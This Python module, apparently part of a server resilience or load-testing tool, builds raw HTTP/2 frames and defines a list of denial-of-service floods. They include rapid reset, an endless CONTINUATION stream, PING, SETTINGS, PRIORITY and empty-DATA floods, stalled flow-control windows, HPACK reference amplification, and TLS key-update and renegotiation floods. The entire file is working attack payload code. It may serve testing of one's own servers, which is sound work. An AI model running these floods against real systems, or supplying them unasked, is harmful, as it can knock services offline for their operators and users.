"""What HTTP/2 and TLS let a client ask of a server without end, one way per line of `floods`."""

import struct

from .attackers import Commands, Frames

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PING, WINDOW_UPDATE, CONTINUATION = 0, 1, 2, 3, 4, 6, 8, 9
END_STREAM, END_HEADERS = 1, 4
INITIAL_WINDOW_SIZE = 4


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def fields(method=b"\x82", path=b"\x84"):
    """A request in HPACK that leaves nothing in the table (RFC 7541, appendix A has the numbers)."""
    return method + b"\x87" + path + b"\x01\x09localhost"


GET = fields()
POST = fields(method=b"\x83")
ASSET = fields(path=b"\x04\x0f/assets/app.css")
OPEN = PREFACE + frame(SETTINGS, 0, 0)
STALLED = PREFACE + frame(SETTINGS, 0, 0, struct.pack(">HI", INITIAL_WINDOW_SIZE, 0))
LONG_FIELD = b"a\x7f\x81\x1e" + b"b" * 3968
ENTRY, REFERENCE = b"\x40\x01" + LONG_FIELD, b"\xbe"


def stream(number):
    return 2 * number + 1


def each(count, make):
    """So many streams at a time."""
    return lambda turn: b"".join(make(stream(turn * count + index)) for index in range(count))


def request(number, block=GET, flags=END_STREAM):
    return frame(HEADERS, flags | END_HEADERS, number, block)


def floods():
    field = b"\x00" + LONG_FIELD
    return [
        Frames("rapid reset", 50, OPEN, each(100, lambda number: (
            request(number) + frame(RST_STREAM, 0, number, struct.pack(">I", 8))))),
        Frames("resets by the server", 50, OPEN, each(100, lambda number: (
            request(number) + frame(WINDOW_UPDATE, 0, number, struct.pack(">I", 0))))),
        Frames("CONTINUATION without an end", 50, OPEN + frame(HEADERS, END_STREAM, 1, GET),
               lambda _: frame(CONTINUATION, 0, 1, field * 4) * 4),
        Frames("PING", 50, OPEN, lambda _: frame(PING, 0, 0, b"12345678") * 1000, reads=False),
        Frames("SETTINGS", 50, OPEN, lambda _: frame(SETTINGS, 0, 0) * 1000, reads=False),
        Frames("PRIORITY", 50, OPEN, each(1000, lambda number: (
            frame(PRIORITY, 0, number, struct.pack(">IB", 0, 7))))),
        Frames("empty DATA", 50, OPEN + request(1, POST, 0), lambda _: frame(DATA, 0, 1) * 1000),
        Frames("stalled windows", 100, STALLED + each(100, lambda number: request(number, ASSET))(0),
               lambda turn: frame(WINDOW_UPDATE, 0, stream(turn % 100), struct.pack(">I", 1)), pause=1),
        Frames("fields by reference", 50, STALLED + request(1, GET + ENTRY),
               lambda turn: request(stream(turn + 1), GET + REFERENCE * 8000), pause=0.01),
        Commands("key updates", 20, b"K", "-tls1_3"),
        Commands("renegotiation", 20, b"R", "-tls1_2"),
    ]
